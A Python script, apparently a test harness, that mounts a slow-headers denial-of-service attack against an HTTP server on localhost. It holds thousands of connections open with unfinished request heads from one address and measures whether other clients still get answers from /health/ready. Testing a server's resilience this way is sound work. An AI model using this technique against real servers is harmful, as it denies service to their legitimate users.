"""An attack with half-open requests: heads that never end, many from one address.

    half_open.py PORT [COUNT] [ADDRESS]     opens them, and reports every second how other clients fare
"""
import socket
import sys
import time

HALF = b"GET /health/live HTTP/1.1\r\nHost: a\r\nX: "


def open_heads(port, count, source="127.0.0.2", host="127.0.0.1"):
    """Opens count connections with half a head in each; returns fewer if some are refused."""
    opened = []
    for _ in range(count):
        try:
            connection = socket.create_connection((host, port), timeout=5, source_address=(source, 0))
            connection.sendall(HALF)
        except OSError:
            continue
        opened.append(connection)
    return opened


def start_heads(port, count, source, host="127.0.0.1"):
    """The same without waiting for any connection, for when nothing may come back."""
    started = []
    for _ in range(count):
        connection = socket.socket()
        connection.setblocking(False)
        connection.bind((source, 0))
        connection.connect_ex((host, port))
        started.append(connection)
    return started


def is_established(connection):
    return connection.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] == 1


def ask(port, source="127.0.0.1"):
    """What another client gets: the status of /health/ready, or the name of the error."""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(source, 0)) as connection:
            connection.sendall(b"GET /health/ready HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
            line = connection.recv(4096).split(b"\r\n")[0].decode()
            return line.split(" ")[1] if " " in line else "closed"
    except OSError as error:
        return type(error).__name__


def main(port, count=4000, source="127.0.0.2"):
    held, answers = [], {}
    for second in range(20):
        begin = time.monotonic()
        held += open_heads(int(port), int(count) if second % 5 == 0 else 0, source)
        for _ in range(20):
            answer = ask(int(port))
            answers[answer] = answers.get(answer, 0) + 1
        print(f"{second} s: {sum(map(is_established, held))} heads open, answers so far {answers}", flush=True)
        time.sleep(max(0, 1 - (time.monotonic() - begin)))


if __name__ == "__main__":
    main(*sys.argv[1:])
